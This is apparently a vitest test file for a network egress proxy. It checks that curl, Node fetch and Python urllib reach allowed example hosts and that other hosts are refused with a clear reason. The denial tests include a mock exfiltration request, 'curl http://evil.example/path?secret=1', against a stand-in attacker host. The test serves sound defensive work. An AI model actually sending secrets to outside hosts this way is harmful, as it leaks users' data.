/** The proxy over real sockets, asked by real programs. */

import { afterEach, describe, expect, test } from "vitest";
import { World } from "#test/gateway-world.ts";
import { missing } from "#test/requirements.ts";

let world: World;
afterEach(() => world?.[Symbol.asyncDispose]());

const nodeProgram = process.execPath;
const nodeFetch = (url: string) =>
  `fetch(${JSON.stringify(url)}).then(async r => console.log(r.status, await r.text()), e => console.log("failed", e.cause?.message ?? e.message))`;
const pythonFetch = `
import sys, urllib.request, urllib.error
try:
    r = urllib.request.urlopen(sys.argv[1], timeout=20)
    print(r.status, r.read().decode())
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode())
except Exception as e:
    print("failed", e)
`;

async function withSites(): Promise<{ secure: string; plain: string; port: number }> {
  world = await World.open([]);
  const secure = await world.https("api.example.org", (request, response) => response.end(`secure ${request.url}`));
  const plain = await world.http((request, response) => response.end(`plain ${request.url}`));
  world.names.set("plain.example.org", "127.0.0.1");
  for (const [host, port] of [
    ["api.example.org", secure.port],
    ["plain.example.org", plain.port],
  ] as const) {
    world.allow(host, port);
  }
  return {
    secure: `https://api.example.org:${secure.port}/x?y=1`,
    plain: `http://plain.example.org:${plain.port}/x?y=1`,
    port: secure.port,
  };
}

describe("what is allowed passes", () => {
  test.skipIf(missing("curl"))("for curl, over TLS and plain", async () => {
    const { secure, plain } = await withSites();
    expect(await world.run("curl", ["-sS", secure])).toMatchObject({ out: "secure /x?y=1", err: "" });
    expect(await world.run("curl", ["-sS", plain])).toMatchObject({ out: "plain /x?y=1", err: "" });
    const tunnel = await world.decision(({ kind, durationMs }) => kind === "tunnel" && durationMs !== null);
    expect(tunnel).toMatchObject({ outcome: "allowed", reason: "allowed", host: "api.example.org", path: null });
    expect(tunnel.bytesIn).toBeGreaterThan(500);
    expect(tunnel.bytesOut).toBeGreaterThan(300);
    const request = await world.decision(({ kind, durationMs }) => kind === "request" && durationMs !== null);
    expect(request).toMatchObject({ outcome: "allowed", method: "GET", path: "/x", intercepted: false });
  });

  test("for Node's fetch, which asks for a tunnel for plain HTTP as well", async () => {
    const { secure, plain } = await withSites();
    const environment = { NODE_USE_ENV_PROXY: "1", NODE_EXTRA_CA_CERTS: world.folder.in("ca.pem") };
    expect(await world.run(nodeProgram, ["-e", nodeFetch(secure)], environment)).toMatchObject({
      out: "200 secure /x?y=1\n",
    });
    expect(await world.run(nodeProgram, ["-e", nodeFetch(plain)], environment)).toMatchObject({
      out: "200 plain /x?y=1\n",
    });
  });

  test.skipIf(missing("python3"))("for Python's urllib", async () => {
    const { secure, plain } = await withSites();
    expect(await world.run("python3", ["-c", pythonFetch, secure])).toMatchObject({ out: "200 secure /x?y=1\n" });
    expect(await world.run("python3", ["-c", pythonFetch, plain])).toMatchObject({ out: "200 plain /x?y=1\n" });
  });
});

describe("what is not allowed is refused, in words an agent can act on", () => {
  test.skipIf(missing("curl"))("for curl, which gets the reason, the decision and how to ask", async () => {
    await withSites();
    const { code, err } = await world.run("curl", ["-sSv", "https://evil.example/"]);
    expect(code).toBe(56);
    expect(err).toMatch(/< X-Cellar-Decision: denied; reason=host_not_allowed; id=dec-[0-9a-f]{12}/);
    const plain = await world.run("curl", ["-sS", "http://evil.example/path?secret=1"]);
    expect(plain.out).toContain("evil.example is on no rule of this bottle");
    expect(plain.out).toContain("The person at the computer can allow it");
    expect(world.lookups).toEqual([]);
    expect(JSON.stringify(world.decisions())).not.toContain("secret");
  });

  test.skipIf(missing("python3"))("for Python and Node", async () => {
    await withSites();
    const python = await world.run("python3", ["-c", pythonFetch, "https://evil.example/"]);
    expect(python.out).toContain("403");
    const environment = { NODE_USE_ENV_PROXY: "1" };
    const node = await world.run(nodeProgram, ["-e", nodeFetch("https://evil.example/")], environment);
    expect(node.out).toContain("failed");
    expect(world.decisions().filter(({ outcome }) => outcome === "allowed")).toEqual([]);
  });
});
